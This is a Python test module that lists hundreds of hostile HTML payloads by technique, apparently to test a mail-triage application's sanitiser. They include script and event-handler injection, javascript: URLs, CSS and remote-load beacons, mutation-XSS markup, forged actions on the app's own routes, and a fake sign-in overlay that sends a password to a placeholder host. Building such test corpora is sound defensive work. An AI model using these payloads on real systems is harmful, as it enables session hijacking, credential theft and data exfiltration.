# ruff: noqa: E501 - one trick, one line
"""Hostile HTML: one line each, by the trick that it tries.

``@S@`` stands for a script that gives itself away, ``@U@`` for an address outside, ``@H@`` for the
host in it alone; the campaign fills them in with a number for each mail, so that whatever runs or
loads can be told to the line that did it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from typing import Final


@dataclass(frozen=True, slots=True)
class Vector:
    """HTML that tries something."""

    family: str
    name: str
    html: str


# --- scripts --------------------------------------------------------------------------------------

_SCRIPTS: Final = (
    "<script>@S@</script>",
    "<SCRIPT>@S@</SCRIPT>",
    "<script type=module>@S@</script>",
    "<script language=vbscript>@S@</script><script>@S@</script>",
    "<script\n>@S@</script\n>",
    "<script/x>@S@</script>",
    "<script\x0c>@S@</script>",
    "<scr\0ipt>@S@</scr\0ipt><script>@S@</script>",
    "<scr<script>ipt>@S@</scr</script>ipt>",
    "<<script>@S@//<</script>",
    "<script>@S@",
    "<script src=@U@></script>",
    "<script src=//@H@/x.js></script>",
    "<script src=data:text/javascript,@S@></script>",
    "<script type=text/plain>x</script><script>@S@</script>",
    "<script>/*</script><script>*/@S@</script>",
    '<script>"</script><script>@S@</script>"',
    "<script><!--<script></script>--></script><script>@S@</script>",
    (
        "<script type=speculationrules>"
        '{"prefetch":[{"source":"list","urls":["@U@"]}]}</script><script>@S@</script>'
    ),
    '<script type=importmap>{"imports":{"x":"@U@"}}</script><script type=module>import "x"</script>',
    "<svg><script>@S@</script></svg>",
    "<svg><script href=data:text/javascript,@S@ /></svg>",
    "<svg><script xlink:href=@U@ /></svg>",
    "<svg><script>console&#46;log(1),@S@</script></svg>",
    "<svg><style><script>@S@</script></style></svg>",
    "<math><script>@S@</script></math><script>@S@</script>",
    "<xml><script>@S@</script></xml>",
    "<b><script>@S@</script></b>",
    "<table><script>@S@</script></table>",
    "<select><script>@S@</script></select>",
    "<div hidden><script>@S@</script></div>",
    "<p><![CDATA[<script>@S@</script>]]>",
    "<?xml version='1.0'?><script>@S@</script>",
    "<!doctype html [<!entity x '<script>@S@</script>'>]>&x;<script>@S@</script>",
    "<script xmlns=http://www.w3.org/1999/xhtml>@S@</script>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>@S@</x:script><script>@S@</script>",
)

#: Elements with a handler that fires by itself, or when the element is clicked or reached by Tab.
_HANDLERS: Final = (
    "<img src=x onerror=@S@>",
    "<img src=x ONERROR = '@S@'>",
    "<img/src=x/onerror=@S@>",
    "<img\nsrc=x\nonerror\n=\n@S@>",
    "<img src=x onerror&#61;@S@ onerror=@S@>",
    '<img src="x` `"onerror=@S@>',
    "<img src='x' 'onerror=@S@' onerror=@S@>",
    "<img src=x:x onerror=&#99;onsole.log(1),@S@>",
    '<img alt="<img src=x onerror=@S@>" src=x onerror=@S@>',
    '<img """><img src=x onerror=@S@>">',
    "<image src=x onerror=@S@>",
    "<img srcset=x onerror=@S@>",
    "<svg onload=@S@></svg>",
    "<svg/onload=@S@>",
    "<svg\tonload\t=@S@><svg>",
    "<svg><animate onbegin=@S@ attributeName=x dur=1s></svg>",
    "<svg><set onbegin=@S@ attributeName=x to=1></svg>",
    "<svg><animatetransform onbegin=@S@ attributeName=transform dur=1s></svg>",
    "<svg><image href=x onerror=@S@></svg>",
    "<svg><image href=x onload=@S@ onerror=@S@></svg>",
    "<svg><style onload=@S@></style></svg>",
    "<body onload=@S@>",
    "<body onpageshow=@S@>",
    "<body onfocus=@S@ autofocus tabindex=1>click",
    "<html onmousemove=@S@ onclick=@S@>move",
    "<frameset onload=@S@>",
    "<iframe onload=@S@></iframe>",
    "<iframe srcdoc=x onload=@S@></iframe>",
    "<object data=x onerror=@S@></object>",
    "<object onerror=@S@ data=data:x></object>",
    "<embed src=data:text/html,x onload=@S@>",
    "<video src=x onerror=@S@></video>",
    "<video><source src=x onerror=@S@></video>",
    "<video onloadstart=@S@ src=data:video/mp4,x></video>",
    "<audio src=x onerror=@S@></audio>",
    "<audio onloadstart=@S@ src=data:audio/mp3,x></audio>",
    "<link rel=stylesheet href=x onerror=@S@>",
    "<link rel=stylesheet href=data:text/css,x onload=@S@>",
    "<style onload=@S@></style>",
    "<script src=x onerror=@S@></script>",
    "<input autofocus onfocus=@S@>",
    "<input type=image src=x onerror=@S@>",
    "<select autofocus onfocus=@S@><option>x</select>",
    "<textarea autofocus onfocus=@S@>x</textarea>",
    "<button autofocus onfocus=@S@>x</button>",
    "<a href=x onclick=@S@ onfocus=@S@>click</a>",
    "<b onclick=@S@ onmouseover=@S@>click</b>",
    "<b contenteditable onfocus=@S@ onclick=@S@>click</b>",
    "<b tabindex=1 onfocus=@S@>click</b>",
    "<p onpointerdown=@S@ onpointerover=@S@>click",
    "<p onmousedown=@S@ onmouseup=@S@ onmouseenter=@S@>click",
    "<td onclick=@S@>click<table><tr><td onmouseover=@S@>click</table>",
    "<li onmousemove=@S@>click<ul><li onmousemove=@S@>click</ul>",
    "<details open ontoggle=@S@><summary>x</summary>y</details>",
    "<details ontoggle=@S@><summary>click</summary>y</details>",
    "<dialog open onclose=@S@><form method=dialog><button onclick=@S@>click</button></form></dialog>",
    "<button popovertarget=p onclick=@S@>click</button><b popover id=p onbeforetoggle=@S@>x</b>",
    "<marquee onstart=@S@>x</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=@S@>x</b>",
    "<b style='display:block;content-visibility:auto' oncontentvisibilityautostatechange=@S@>x</b>",
    "<form onsubmit=@S@ action=x><button>click</button></form>",
    "<form><input onformdata=@S@ oninvalid=@S@ required><button onclick=@S@>click</button></form>",
    "<meter onclick=@S@ onmouseover=@S@>click click click</meter>",
    "<blockquote onmouseover=@S@ onclick=@S@>click</blockquote>",
    "<span/onclick=@S@/onmouseover=@S@>click</span>",
    "<custom-element onclick=@S@ onmouseover=@S@>click</custom-element>",
    "<map name=m><area onclick=@S@ href=x shape=default></map><img usemap=#m width=200 height=90>",
)

# --- addresses that are scripts -------------------------------------------------------------------

#: Ways to write an address that runs.
_SCRIPT_ADDRESSES: Final = (
    "javascript:@S@",
    "JaVaScRiPt:@S@",
    " javascript:@S@",
    "\x01javascript:@S@",
    "java\tscript:@S@",
    "java\nscript:@S@",
    "java\rscript:@S@",
    "java&Tab;script:@S@",
    "java&NewLine;script:@S@",
    "javascript&colon;@S@",
    "javascript&#58;@S@",
    "javascript&#x3a @S@",
    "&#106;avascript:@S@",
    "&#0000106avascript:@S@",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A@S@",
    "&#14;javascript:@S@",
    "\u00a0javascript:@S@",
    "\u2028javascript:@S@",
    "\ufeffjavascript:@S@",
    "\u200bjavascript:@S@",
    "java\0script:@S@",
    "javascript://%0a@S@",
    "javascript:/*--><svg/onload=@S@>*/@S@",
    "javascript:'<script>@S@</script>'",
    "view-source:javascript:@S@",
    "feed:javascript:@S@",
    "vbscript:@S@",
    "livescript:@S@",
    "mocha:@S@",
    "data:text/html,<script>@S@</script>",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygvSElULTk5OTkvLnNvdXJjZSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@S@'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@S@</x:script>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@S@</x:script>",
    "blob:null/@S@",
    "filesystem:@U@",
    "jar:@U@!/x.html",
    "about:blank#javascript:@S@",
)

#: Where an address is followed; the first is tried with each way, the others in turn.
_CARRIERS: Final = (
    '<a href="%s">click</a>',
    '<iframe src="%s"></iframe>',
    '<form action="%s"><button>click</button></form>',
    '<form><button formaction="%s">click</button></form>',
    '<object data="%s"></object>',
    '<embed src="%s">',
    '<meta http-equiv=refresh content="0;url=%s">',
    '<svg><a href="%s"><text y=20>click</text></a></svg>',
    '<svg><a><animate attributeName=href values="%s"/><text y=20>click</text></a></svg>',
    '<math href="%s">click</math>',
    '<img src="%s">',
    '<svg><use href="%s#x"/></svg>',
    '<map name=m><area href="%s" shape=default></map><img usemap=#m width=200 height=90>',
    '<frameset><frame src="%s"></frameset>',
    '<base href="%s"><a href=x>click</a>',
    '<isindex action="%s"><input type=image src=x formaction="%s">',
    '<video src="%s"></video>',
    '<body background="%s">',
    '<b style="background:url(%s)">x</b>',
    '<link rel=stylesheet href="%s">',
    '<script src="%s"></script>',
)

# --- what loads -----------------------------------------------------------------------------------

_LOADS: Final = (
    "<img src=@U@>",
    "<img src=//@H@/x.gif width=1 height=1>",
    "<img src='\\\\@H@\\x.gif'>",
    "<img src='/\\@H@/x.gif'>",
    "<img src='http:\\\\@H@/x.gif'>",
    "<img src='ht\ntp://@H@/x.gif'>",
    "<IMG SRC = ' @U@ '>",
    "<img src=x srcset='@U@ 1x, @U@ 2x'>",
    "<img srcset='@U@ 100w' sizes=100vw>",
    "<img loading=eager decoding=sync src=@U@>",
    "<img src=@U@ attributionsrc=@U@ lowsrc=@U@ dynsrc=@U@ longdesc=@U@>",
    "<img src=https://@H@/x.svg>",
    "<image src=@U@>",
    "<picture><source srcset=@U@><img></picture>",
    "<picture><source media=all srcset=@U@><img src=x></picture>",
    "<input type=image src=@U@>",
    "<video poster=@U@></video>",
    "<video autoplay muted src=@U@></video>",
    "<video controls><source src=@U@><track default src=@U@></video>",
    "<audio autoplay src=@U@></audio>",
    "<audio preload=auto><source src=@U@></audio>",
    "<bgsound src=@U@><img src=@U@>",
    "<body background=@U@>",
    "<table background=@U@><tr><td>x</table>",
    "<table><tr background=@U@><td background=@U@>x</table>",
    "<iframe src=@U@></iframe>",
    "<iframe srcdoc='<img src=@U@>'></iframe>",
    "<iframe srcdoc='&lt;img src=@U@&gt;'></iframe>",
    "<iframe src=about:blank></iframe><img src=@U@>",
    "<frameset cols=*><frame src=@U@></frameset>",
    "<object data=@U@></object>",
    "<object classid=@U@ codebase=@U@ data=@U@></object>",
    "<object type=image/png data=@U@><img src=@U@></object>",
    "<object><param name=movie value=@U@><embed src=@U@></object>",
    "<embed src=@U@>",
    "<embed type=image/svg+xml src=@U@>",
    "<applet code=x codebase=@U@ archive=@U@></applet><img src=@U@>",
    "<portal src=@U@></portal><fencedframe></fencedframe><img src=@U@>",
    "<layer src=@U@></layer><img src=@U@>",
    "<svg><image href=@U@ /></svg>",
    "<svg><image xlink:href=@U@ /></svg>",
    "<svg><feImage href=@U@ /></svg><img src=@U@>",
    "<svg><use href=@U@#x /></svg>",
    "<svg><rect fill='url(@U@#x)' width=9 height=9 /></svg><img src=@U@>",
    "<svg><rect style='filter:url(@U@#x)' width=9 height=9 /></svg>",
    "<svg><foreignObject><img src=@U@></foreignObject></svg>",
    "<math><mglyph src=@U@><mi xlink:href=@U@>x</mi></math><img src=@U@>",
    "<?xml-stylesheet href=@U@?><img src=@U@>",
    "<html manifest=@U@><img src=@U@>",
    "<base href=@U@><img src=x.gif>",
    "<BASE HREF='//@H@/'><link rel=stylesheet href=x.css>",
    "<a ping=@U@ href=#x>click</a>",
    "<a href=@U@>click</a>",
    "<a href=//@H@/ target=_blank rel=opener>click</a>",
    "<a href=@U@ target=_top>click</a>",
    "<a href=@U@ download>click</a>",
    "<a href='@U@' style='position:fixed;inset:0;display:block'>click</a>",
    ("<area href=@U@ ping=@U@><map name=m><area href=@U@ shape=default></map>"
    "<img usemap=#m width=300 height=99>"),
    "<form action=@U@><button>click</button></form>",
    "<form action=@U@ method=post><input autofocus name=x value=1><input type=submit value=click></form>",
    "<form action=@U@ target=_top><input type=image src=@U@></form>",
    "<form id=f></form><button form=f formaction=@U@ formmethod=post>click</button>",
    "<form action=mailto:x@@H@><button>click</button></form><img src=@U@>",
    "<meta http-equiv=refresh content='0;url=@U@'>",
    "<meta http-equiv=refresh content='0,@U@'>",
    "<META HTTP-EQUIV=' refresh' content='0;URL=&#39;@U@&#39;'><img src=@U@>",
    "<meta http-equiv=Link content='<@U@>;rel=preload;as=image'><img src=@U@>",
    ("<meta http-equiv=Content-Security-Policy content=\"img-src 'none';report-uri @U@\">"
    "<link rel=stylesheet href=@U@>"),
    ("<meta http-equiv=x-dns-prefetch-control content=on><a href=http://@H@/>x</a>"
    "<link rel=dns-prefetch href=//@H@>"),
    "<meta name=msapplication-config content=@U@><meta property=og:image content=@U@><img src=@U@>",
    "<blockquote cite=@U@><q cite=@U@>x</q></blockquote><img src=@U@>",
    "<del cite=@U@><ins cite=@U@>x</ins></del><img src=@U@>",
    "<!--[if mso]><v:imagedata src=@U@ /><![endif]--><img src=@U@>",
    "<!--[if !mso]><!--><img src=@U@><!--<![endif]-->",
    "<![if !vml]><img src=@U@><![endif]>",
    "<v:background><v:fill src=@U@ type=tile /></v:background><img src=@U@>",
    "<img src=cid:nobody@@H@><img src=@U@>",
    "<img src=mid:x src=@U@><img src=@U@ src=x>",
    "<img src='file:////@H@/share/x.gif'><img src='smb://@H@/x'><img src=@U@>",
    "<img src='ftp://@H@/x.gif'><img src='ws://@H@/'><img src=@U@>",
    ("<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\">"
    "<image href=\"@U@\"/></svg>'><object type=image/svg+xml data='data:image/svg+xml,"
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"@U@\"/></svg>'></object>"),
    *(
        f"<link rel='{rel}' href=@U@>"
        for rel in (
            "stylesheet", "StyleSheet alternate", "icon", "shortcut icon", "apple-touch-icon",
            "preload", "modulepreload", "prefetch", "dns-prefetch", "preconnect", "prerender",
            "next", "manifest", "import", "compression-dictionary", "expect", "mask-icon",
        )
    ),
    "<link rel=preload as=image href=@U@>",
    "<link rel=preload as=style href=@U@>",
    "<link rel=preload as=font crossorigin href=@U@>",
    "<link rel=preload as=image imagesrcset='@U@ 1x'>",
    "<p><link rel=stylesheet itemprop=x href=@U@>",
)  # fmt: skip

# --- styles ---------------------------------------------------------------------------------------

#: Declarations, put into an attribute, an element and an element within SVG.
_DECLARATIONS: Final = (
    "background:url(@U@)",
    "background-image:url('@U@')",
    'background:url("//@H@/x")',
    "background:\\75rl(@U@)",
    "background:u\\rl(@U@)",
    "background:url(/**/@U@)",
    "BACKGROUND:URL( @U@ )",
    "background:image-set('@U@' 1x)",
    "background:-webkit-image-set(url(@U@) 1x)",
    "background:-webkit-cross-fade(url(@U@),url(@U@),50%)",
    "background:x;background:url(@U@)",
    "--x:url(@U@);background:var(--x)",
    "list-style:url(@U@);display:list-item",
    "border-image:url(@U@) 1",
    "border-image-source:url(@U@);border:9px solid",
    "cursor:url(@U@),auto",
    "content:url(@U@)",
    "mask-image:url(@U@)",
    "-webkit-mask:url(@U@)",
    "clip-path:url(@U@#x)",
    "filter:url(@U@#x)",
    "shape-outside:url(@U@);float:left",
    "behavior:url(@U@);background:url(@U@)",
    "-moz-binding:url(@U@#x);background:url(@U@)",
    "width:expression(@S@);background:url(@U@)",
    "width:exp/**/ression(@S@);background:url(@U@)",
    "background:url(javascript:@S@);background-image:url(@U@)",
)
_STYLES: Final = (
    "<style>@import '@U@';</style>",
    "<style>@import url(@U@);</style>",
    "<style>@\\69mport url(@U@);</style>",
    "<style>@import/**/url(//@H@/x);</style>",
    "<style>@charset 'utf-7';@import '@U@' screen;</style>",
    "<style><!-- @import '@U@'; --></style>",
    "<style>@font-face{font-family:f;src:url(@U@)}*{font-family:f}</style>text",
    "<style>@namespace x url(@U@);body{background:url(@U@)}</style>",
    "<style>@media all{body{background:url(@U@)}}</style>",
    "<style>@supports(display:block){body{background:url(@U@)}}</style>",
    "<style>@layer a{p{background:url(@U@)}}</style><p>x",
    "<style>p::before{content:url(@U@)}p::first-line{background:url(@U@)}</style><p>x",
    "<style>input[value^='a']{background:url(@U@)}</style><input value=abc>",
    "<style>*{background:url(@U@)}</style>",
    "<style>:root{background:url(@U@)}</style>",
    "<style>p:hover,p:active{background:url(@U@)}</style><p>click",
    "<style media=all type=text/css>body{background:url(@U@)}",
    "<svg><style>@import '@U@';</style></svg>",
    "<svg><style>&#64;import '@U@';</style></svg>",
    "<style></style/><img src=@U@></style>",
    "<style>x</style><style>body{background:url(@U@)}</style>",
    "<style>/*</style><img src=@U@>*/</style>",
    "<xss style='xss:expression(@S@)'><style>.x{background:url(@U@)}</style><a class=x>x</a>",
    "<div style='background:url(@U@' style=x>x</div><b style='background:url(@U@)'>x</b>",
)

# --- markup that browsers and sanitisers read differently -----------------------------------------

_IMG: Final = "<img src=x onerror=@S@>"
_ESCAPED: Final = "&lt;img src=x onerror=@S@&gt;"
_MISREAD: Final = (
    f"<noscript><p title='</noscript>{_IMG}'>",
    f"<noscript><style></noscript>{_IMG}</style></noscript>",
    f"<noscript><a href='</noscript>{_IMG}'>x</a>",
    f"<noembed><p title='</noembed>{_IMG}'>",
    f"<noframes><p title='</noframes>{_IMG}'>",
    f"<xmp><p title='</xmp>{_IMG}'>",
    f"<iframe><p title='</iframe>{_IMG}'>",
    f"<textarea><p title='</textarea>{_IMG}'>",
    f"<title><p title='</title>{_IMG}'>",
    f"<style><p title='</style>{_IMG}'>",
    f"<plaintext>{_IMG}</plaintext>{_IMG}",
    f"<listing>{_ESCAPED}</listing>{_IMG}",
    f"<template>{_IMG}</template>{_IMG}",
    f"<template shadowrootmode=open>{_IMG}</template>{_IMG}",
    f"<b><template shadowrootmode=open>{_IMG}</template></b>",
    f"<select>{_IMG}</select>{_IMG}",
    f"<select><style></select>{_IMG}</style>",
    f"<select><option><template><style></template></select>{_IMG}",
    f"<select><keygen><textarea></select>{_IMG}",
    f"<svg></p><style><a id='</style>{_IMG}'>",
    f"<svg><p><style><a id='</style>{_IMG}'>",
    f"<svg><title><style><a title='</style>{_IMG}'>",
    f"<svg><desc><noscript><a title='</noscript>{_IMG}'>",
    f"<svg><foreignObject><p><style><a id='</style>{_IMG}'>",
    f"<svg><a><foreignObject><a><table><style><a title='</style>{_IMG}'>",
    f"<svg><style><!--</style>{_IMG}--></style></svg>",
    f"<svg><![CDATA[><{_IMG[1:]}]]></svg>{_IMG}",
    f"<svg><![CDATA[</svg>{_IMG}]]>",
    f"<svg><title><![CDATA[</title>{_IMG}]]></svg>",
    f"<svg><b>{_IMG}</b></svg>",
    f"<math></p><style><a id='</style>{_IMG}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_ESCAPED}'>{_IMG}",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{_IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    f"<form><math><mtext><mglyph></form><mglyph><style></math>{_IMG}",
    f"<math><mi><style><a title='</style>{_IMG}'></mi></math>",
    f"<math><mn><mglyph><malignmark><style></mn>{_IMG}</style>",
    f"<math><annotation-xml encoding=text/html><style></annotation-xml>{_IMG}</style></math>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><p title='</math>{_IMG}'>",
    f"<math><annotation-xml><svg><style><a title='</style>{_IMG}'></svg>",
    f"<math><ms><svg><ms><style></svg>{_IMG}</style>",
    f"<p><svg><p>{_IMG}",
    f"<svg><svg></p>{_IMG}",
    f"<svg><br>{_IMG}",
    f"<svg><font color=x>{_IMG}</font>",
    f"<table><svg><tr><style><a title='</style>{_IMG}'></table>",
    f"<table><tr><td><table><style></td>{_IMG}</style></table>",
    f"<table><caption><svg><style></caption>{_IMG}</style></table>",
    f"<table><colgroup><template>{_IMG}</template></colgroup>{_IMG}</table>",
    f"<a><table><a>{_IMG}</table></a>",
    f"<b><p><b></p></b>{_IMG}",
    f"<form id=a><div></form><form id=b>{_IMG}</div></form>",
    f"<frameset><frame></frameset><noframes>{_IMG}</noframes>{_IMG}<iframe onload=@S@>",
    f"<!--><{_IMG[1:]}-->",
    f"<!---><{_IMG[1:]}-->",
    f"<!-- --!><{_IMG[1:]}-->",
    f"<!-- -- ><{_IMG[1:]}-->{_IMG}",
    f"<!--x--!>{_IMG}",
    f"<!-{_IMG}->",
    f"</{_IMG}>{_IMG}",
    f"<?{_IMG}?>{_IMG}",
    f"<%{_IMG}%>",
    f"<!x{_IMG}>{_IMG}",
    f"<a <{_IMG[1:]}",
    f"<a title='&quot;>{_ESCAPED}'>x</a>{_IMG}",
    f'<p title="x\'>{_IMG}">{_IMG}',
    f"<p title=`>{_IMG}`>",
    f"<p =>{_IMG}",
    f"<p/{_IMG}",
    f"{_ESCAPED}{_IMG}",
    f"&amp;lt;img src=x onerror=@S@&amp;gt;{_IMG}",
    f"&#60;img src=x onerror=@S@&#62;{_IMG}",
    f"&lt{_IMG[1:]}{_IMG}",
    f"\uff1cimg src=x onerror=@S@\uff1e{_IMG}",
    f"\u2039img src=x onerror=@S@\u203a\u02bcimg{_IMG}",
    f"<\u0130mg src=x onerror=@S@>{_IMG}",
    f"<\u017fcript>@S@</\u017fcript><\u017fvg onload=@S@>{_IMG}",
    "<img src=x on\u212aeydown=@S@ onerror=@S@>",
    "<i\0mg src=x onerror=@S@><img src=x on\0error=@S@><img src=x onerror=@S@>",
    "<img\u00a0src=x\u00a0onerror=@S@><img src=x onerror=@S@>",
    "<img src=x onerror=@S@\x0b><img\x0bsrc=x onerror=@S@><img src=x onerror=@S@>",
    "<td colspan='1\"><img src=x onerror=@S@>'>x</td><img src=x onerror=@S@>",
    (
        "<table><td colspan='&quot;&gt;&lt;img src=x onerror=@S@&gt;' rowspan=9999999>x</table>"
        "<img src=x onerror=@S@>"
    ),
)

# --- a page that pretends to be ours, or reaches for it -------------------------------------------

_REACHES: Final = (
    "<form action=/cases/1/dismiss method=post><input name=version value=1><button>click</button></form>",
    "<form action=/sign-out method=post><button autofocus>click</button></form>",
    "<form action=/cases/1/approve method=post target=_top><button>click</button></form>",
    "<img src=/cases/1/dismiss><img src=/sign-out><img src=@U@>",
    "<iframe src=/queues></iframe><iframe src=/cases/1></iframe><img src=@U@>",
    "<iframe name=csrf src=/cases/1 onload=@S@></iframe>",
    "<object data=/cases/1></object><embed src=/queues><img src=@U@>",
    (
        "<link rel=stylesheet href=/static/app.css><script src=/static/app.js></script>"
        "<dialog id=keys open><input id=keys-off></dialog><script>@S@</script>"
    ),
    "<a href=/cases/1 target=_top>click</a><img src=@U@>",
    "<a href=/sign-out>click</a><img src=@U@>",
    "<a id=location href=javascript:@S@>click</a><form name=document id=csrf><input name=cookie></form>",
    "<img name=getElementById src=x onerror=@S@><form id=top name=parent></form>",
    (
        "<div style='position:fixed;inset:0;background:#fff;z-index:2147483647'>Sign in again"
        "<form action=@U@><input type=password autofocus><button>click</button></form></div>"
    ),
    (
        "<div style='position:absolute;top:-400px;left:-400px;width:4000px;height:4000px;background:red'>"
        "<a href=@U@>click</a></div>"
    ),
    "<div style='margin:-900px;transform:scale(50);width:99999px'><a href=@U@>click</a></div>",
    "<div class='notice good' id=notice role=status>Approved</div><img src=@U@>",
    "<main id=main class=case><button data-key=a autofocus onfocus=@S@>Approve</button></main>",
    "<meta http-equiv=set-cookie content='fit-triage=x'><script>document.cookie='a=b',@S@</script>",
    "<script>top.location='@U@',@S@</script>",
    "<script>open('@U@'),@S@</script>",
    "<script>parent.document.title='x'</script><script>@S@</script>",
    "<script>top.postMessage('x','*'),@S@</script>",
    "<script>navigator.sendBeacon('@U@'),@S@</script>",
    "<script>new WebSocket('ws://@H@/'),@S@</script>",
    "<script>new RTCPeerConnection({iceServers:[{urls:'stun:@H@'}]}).createDataChannel('x'),@S@</script>",
    "<script>alert(1),confirm(1),prompt(1),@S@</script>",
    "<script>navigator.serviceWorker.register('/x.js').catch(()=>0),@S@</script>",
    "<script>history.pushState(0,0,'/x'),@S@</script>",
    "<dialog open style='width:100vw;height:100vh'><a href=@U@>click</a></dialog>",
    "<button popovertarget=p>click</button><b popover id=p style=inset:0><img src=@U@></b>",
    "<marquee behavior=alternate direction=up><img src=@U@></marquee>",
    "<img src=@U@ style='position:fixed;inset:0;width:100%;height:100%'>",
)

# --- much of it -----------------------------------------------------------------------------------

_MASSES: Final = (
    "<div>" * 180 + "<img src=x onerror=@S@>" + "</div>" * 180,
    "<div>" * 600 + "<img src=x onerror=@S@>",
    "<b>" * 500 + "<script>@S@</script>",
    "<svg>" * 400 + "<script>@S@</script>",
    "<table><tr><td>" * 200 + "<img src=@U@>",
    "<ul><li>" * 300 + "<img src=@U@>",
    "<a href=x>" * 900 + "<img src=@U@>",
    "<font>" * 700 + "<svg onload=@S@>",
    "<template>" * 300 + "</template>" * 300 + "<img src=@U@>",
    "<p title='" + "x" * 200_000 + "'><img src=x onerror=@S@>",
    "<p " + " ".join(f"a{n}=1" for n in range(10_000)) + "><img src=x onerror=@S@>",
    "<" + "x" * 100_000 + "><img src=x onerror=@S@>",
    "<!--" + "x" * 300_000 + "--><img src=x onerror=@S@>",
    "x" * 100_000 + "<img src=@U@>",
    "<img src=@U@>" * 2_000,
    "&lt;" * 50_000 + "<img src=x onerror=@S@>",
    "<b></p>" * 8_000 + "<img src=x onerror=@S@>",
    "\u202e" * 400 + "txet<img src=@U@>" + "\u2066" * 400,
    "\u200b\u200d\u2060\ufeff" * 2_000 + "<img src=@U@>",
    "Z" + "\u0335\u0321\u0360\u0489" * 2_000 + "<img src=@U@>",
    "\U000e0041\U000e0001\ue000\uffff" * 300 + "<img src=@U@>",
    "<pre>" + "\n" * 20_000 + "</pre><img src=@U@>",
    (
        "<td colspan=100000 rowspan=100000>x</td><table><td colspan=100000 rowspan=65534>x</table>"
        "<img src=@U@>"
    ),
    "<ol start=-2147483648><li value=99999999999>x</ol><hr size=99999 width=99999><img src=@U@>",
)


def vectors() -> Iterator[Vector]:
    """All of them, each under a name of its own."""
    tables = {
        "script": _SCRIPTS,
        "handler": _HANDLERS,
        "address": tuple(_addresses()),
        "load": _LOADS,
        "style": (*_STYLES, *_declared()),
        "misread": _MISREAD,
        "reach": _REACHES,
        "mass": _MASSES,
    }
    for family, table in tables.items():
        for number, html in enumerate(dict.fromkeys(table), start=1):
            yield Vector(family, f"{family} {number}", html)


def _addresses() -> Iterator[str]:
    """Each way in a link, and in one of the other places; each place with the plainest way."""
    link, *others = _CARRIERS
    for number, address in enumerate(_SCRIPT_ADDRESSES):
        quoted = address.replace('"', "&quot;")
        yield link.replace("%s", quoted)
        yield others[number % len(others)].replace("%s", quoted)
    for carrier in others:
        yield carrier.replace("%s", _SCRIPT_ADDRESSES[0])


def _declared() -> Iterator[str]:
    for declaration in _DECLARATIONS:
        yield f'<p style="{escape(declaration)}">click</p>'
        yield f"<style>p{{{declaration}}}</style><p>click</p>"
    yield f"<svg><style>*{{{_DECLARATIONS[0]}}}</style><rect width=9 height=9 /></svg>"
